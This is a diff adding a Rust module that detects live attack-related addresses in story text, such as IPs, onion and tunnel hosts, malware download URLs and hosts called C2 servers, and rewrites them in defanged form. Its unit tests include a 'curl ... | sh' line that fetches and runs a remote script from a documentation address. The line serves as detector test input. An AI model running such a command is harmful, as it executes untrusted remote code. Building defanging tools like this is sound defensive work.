@@ -1,0 +1,249 @@
+//! Addresses that a story tells of as parts of an attack, and whether they are written so that nobody follows them by
+//! accident: `hxxp://evil[.]host`, `203[.]0[.]113[.]7`.
+
+mod scan;
+mod sentence;
+mod version;
+
+use std::ops::Range;
+
+use super::hosts::{self, Address};
+use crate::check::manuscript::{Link, Mark, Passage};
+use crate::check::rule::Context;
+use scan::{Form, Shape};
+
+/// Why an address should not be live.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(in crate::check) enum Why {
+    /// Only a part of it is defanged.
+    Half,
+    /// It is the number of a machine.
+    Number,
+    /// It is a service of the Tor network.
+    Onion,
+    /// Its name was lent for a while to some machine.
+    Tunnel,
+    /// It leads to a program.
+    Program,
+    /// The sentence says so.
+    Attack,
+}
+
+/// A live address.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(in crate::check) struct Indicator {
+    /// Where it is in the text.
+    pub(in crate::check) range: Range<usize>,
+    /// Why it should not be.
+    pub(in crate::check) why: Why,
+    /// The host, as it is written.
+    pub(in crate::check) host: Range<usize>,
+    /// What to write in the place of its parts.
+    pub(in crate::check) edits: Vec<(Range<usize>, String)>,
+}
+
+impl Indicator {
+    /// A part of the text that holds the indicator, which is defanged.
+    pub(in crate::check) fn defanged(&self, text: &str, part: Range<usize>) -> String {
+        let (mut out, mut done) = (String::new(), part.start);
+        for (range, other) in &self.edits {
+            out.push_str(&text[done..range.start]);
+            out.push_str(other);
+            done = range.end;
+        }
+        out.push_str(&text[done..part.end]);
+        out
+    }
+}
+
+/// The live indicators of a text.
+pub(in crate::check) fn find(text: &str) -> Vec<Indicator> {
+    scan::shapes(text).into_iter().filter_map(|shape| judge(text, &shape)).collect()
+}
+
+/// Whether a link is nothing but an indicator in the text, which is to be no link at all.
+pub(in crate::check) fn is_written_as(link: &Link, context: &Context<'_>) -> bool {
+    if !link.role.is_running() || !(link.is_bare || link.text == link.target) {
+        return false;
+    }
+    let mut passages = context.manuscript.running().filter(|passage| {
+        passage.item == link.item && passage.role == link.role && passage.at.file == link.at.file
+    });
+    passages.any(|passage| {
+        let own = |range: &Range<usize>| passage.span(range.clone()) == link.text_at;
+        let range = passage.marks.iter().find(|(range, mark)| matches!(mark, Mark::Link(_)) && own(range));
+        range.is_some_and(|(range, _)| {
+            find(&passage.text).iter().any(|found| range.contains(&found.range.start))
+        })
+    })
+}
+
+/// Whether a link with words leads elsewhere than the address in its words, so that nobody follows that by accident.
+pub(in crate::check) fn is_led_away(passage: &Passage, indicator: &Indicator) -> bool {
+    let Some(Mark::Link(target)) = passage.mark_at(indicator.range.start) else { return false };
+    let host = passage.text[indicator.host.clone()].to_lowercase();
+    Address::parse(target).is_none_or(|address| address.host() != host)
+}
+
+fn judge(text: &str, shape: &Shape) -> Option<Indicator> {
+    let written = &text[shape.host.clone()];
+    let host = written.to_lowercase();
+    let number = hosts::ip(if shape.form == Form::Six { "" } else { &host }).or_else(|| host.parse().ok());
+    let sentence = sentence::Sentence::around(text, &shape.range);
+    let is_url = shape.scheme.is_some();
+    let why = match shape.form {
+        Form::Half => Why::Half,
+        Form::Name | Form::Four | Form::Six => match number {
+            Some(ip) if !hosts::is_public(ip) => return None,
+            Some(ip) => {
+                let familiar = ["8.8.8.8", "8.8.4.4", "1.1.1.1", "1.0.0.1", "9.9.9.9", "168.126.63.1"];
+                if !is_url && (familiar.contains(&host.as_str()) || version::is_version(&sentence, ip)) {
+                    return None;
+                }
+                Why::Number
+            }
+            None if hosts::is_onion(&host) && !sentence.asks_for_letters() => Why::Onion,
+            None if hosts::has_tunnel(&host) => Why::Tunnel,
+            None => by_words(text, shape, &host, &sentence)?,
+        },
+    };
+    Some(Indicator { range: shape.range.clone(), why, host: shape.host.clone(), edits: edits(text, shape) })
+}
+
+/// What the file's name or the words around say about an ordinary host.
+fn by_words(text: &str, shape: &Shape, host: &str, sentence: &sentence::Sentence<'_>) -> Option<Why> {
+    let reserved = hosts::is_reserved(host);
+    let is_url = shape.scheme.is_some();
+    let path = &text[shape.host.end..shape.range.end];
+    let path = path.split(['?', '#']).next().unwrap_or_default().to_lowercase();
+    let is_program =
+        path.contains('/') && scan::PROGRAMS.split_ascii_whitespace().any(|end| path.ends_with(end));
+    // A name that is reserved means no harm; an address that the sentence calls an attacker's is one.
+    let in_question =
+        if is_url { !sentence::is_public_office(host) } else { !reserved && !sentence::is_familiar(host) };
+    if in_question && sentence.calls_it_an_attack() {
+        return Some(Why::Attack);
+    }
+    (is_program && (sentence.speaks_of_attack() || is_url && !reserved)).then_some(Why::Program)
+}
+
+fn edits(text: &str, shape: &Shape) -> Vec<(Range<usize>, String)> {
+    let mut edits = Vec::new();
+    if let Some(scheme) = &shape.scheme {
+        let written = &text[scheme.clone()];
+        let dull = written.replace("tt", "xx").replace("TT", "XX").replace("Tt", "Xx").replace("ft", "fx");
+        if dull != written {
+            edits.push((scheme.clone(), dull));
+        }
+    }
+    let host = &text[shape.host.clone()];
+    let dull = match shape.form {
+        Form::Six => host.replace(':', "[:]"),
+        Form::Half if host.contains(['[', '(']) => host.to_owned(),
+        _ if host.starts_with('[') => format!("[{}]", host.trim_matches(['[', ']']).replace(':', "[:]")),
+        _ => host.replace('.', "[.]"),
+    };
+    if dull != host {
+        edits.push((shape.host.clone(), dull));
+    }
+    edits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// What is found, each as it should be written.
+    fn dull(text: &str) -> Vec<(Why, String)> {
+        find(text).iter().map(|found| (found.why, found.defanged(text, found.range.clone()))).collect()
+    }
+
+    #[test]
+    fn live_indicators_are_defanged() {
+        let cases = [
+            ("It calls 203.0.113.7 every hour.", Why::Number, "203[.]0[.]113[.]7"),
+            ("(198.51.100.23:8443)", Why::Number, "198[.]51[.]100[.]23:8443"),
+            ("주소는 203.0.113.7입니다", Why::Number, "203[.]0[.]113[.]7"),
+            ("The server 2001:db8::7, too", Why::Number, "2001[:]db8[:][:]7"),
+            ("see http://203.0.113.7/a.b?c.", Why::Number, "hxxp://203[.]0[.]113[.]7/a.b?c"),
+            ("http://[2001:db8::7]/x", Why::Number, "hxxp://[2001[:]db8[:][:]7]/x"),
+            ("HTTPS://203.0.113.7에서", Why::Number, "HXXPS://203[.]0[.]113[.]7"),
+            ("curl -s http://203.0.113.7/x.sh|sh", Why::Number, "hxxp://203[.]0[.]113[.]7/x.sh"),
+            ("hxxp://evil.example/a.b", Why::Half, "hxxp://evil[.]example/a.b"),
+            ("http://evil[.]example/a", Why::Half, "hxxp://evil[.]example/a"),
+            ("at update.duckdns.org now", Why::Tunnel, "update[.]duckdns[.]org"),
+            (
+                "The malware hid in https://evil.example/a/setup.exe, they say",
+                Why::Program,
+                "hxxps://evil[.]example/a/setup.exe",
+            ),
+            (
+                "The phishing page at https://bank.example/login asks",
+                Why::Attack,
+                "hxxps://bank[.]example/login",
+            ),
+            ("Later it updated itself from 203.0.113.7.", Why::Number, "203[.]0[.]113[.]7"),
+            ("The malware connects to harbour-cdn.com", Why::Attack, "harbour-cdn[.]com"),
+            ("its C2 server, harbour-cdn.com, was seized", Why::Attack, "harbour-cdn[.]com"),
+            ("피싱 사이트 harbour-login.com은", Why::Attack, "harbour-login[.]com"),
+            ("harbour-cdn.com에서 악성코드를 내려받는다", Why::Attack, "harbour-cdn[.]com"),
+        ];
+        for (text, why, expected) in cases {
+            assert_eq!(dull(text), [(why, expected.to_owned())], "{text}");
+        }
+        let onion = format!("posted at {}.onion", "a2b3".repeat(14));
+        assert_eq!(dull(&onion)[0].0, Why::Onion);
+    }
+
+    #[test]
+    fn what_is_defanged_is_left_alone() {
+        for text in [
+            "hxxp://evil[.]example/a.b",
+            "hXXps[:]//evil[.]example",
+            "203[.]0[.]113[.]7",
+            "203.0.113[.]7",
+            "the malicious domain evil[.]com",
+            "evil(dot)com and evil{.}com",
+        ] {
+            assert_eq!(dull(text), [], "{text}");
+        }
+    }
+
+    #[test]
+    fn ordinary_words_are_left_alone() {
+        for text in [
+            "Chrome 107.0.5304.121 and Ivanti 22.2.4.1 are out",
+            "The flaw was fixed in 22.2.4.14, and build 203.0.113.7 has it too",
+            "Upgrade to 203.0.113.7 at once",
+            "Hackers sent malware to harbour-shop.co.kr and found ransomware on harbour-mail.com",
+            "A guide to phishing sites was published at https://lantern.example/guide",
+            "Read more about the phishing site at https://lantern.example/story",
+            "version 10.0.2.15",
+            "Section 3.2.1.4 of the rules",
+            "PCI DSS 12.3.1.1 asks for it",
+            "Update to 22.2.4.14 or later",
+            "16.1.2.3 버전 이하",
+            "127.0.0.1, 192.168.0.1, 10.1.2.3 and 0.0.0.0",
+            "use 8.8.8.8 instead",
+            "203.0.113.0/24",
+            "at 12:30:45, std::net, 00:1A:2B:3C:4D:5E",
+            "Booking.com customers were targets of phishing",
+            "Malware was hosted on github.com for a day",
+            "Phishing can be reported at https://reports.lantern.example/form",
+            "Read more about phishing at https://lantern.example/phishing",
+            "피싱 신고: https://lantern.example/report",
+            "피싱 신고 사이트 report-it.com에서 신고",
+            "naver.com을 사칭한 피싱 사이트가 나왔다",
+            "naver.com으로 위장한 피싱 사이트",
+            "a phishing page that imitates lantern-bank.com",
+            "Download it at https://lantern.example/tools/setup.exe",
+            "run setup.exe",
+            "the malicious domain login.lantern.example",
+            "Send us tips through SecureDrop at aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion",
+            "desk@203.0.113.7",
+            "2022.11.18.",
+        ] {
+            assert_eq!(dull(text), [], "{text}");
+        }
+    }
+}
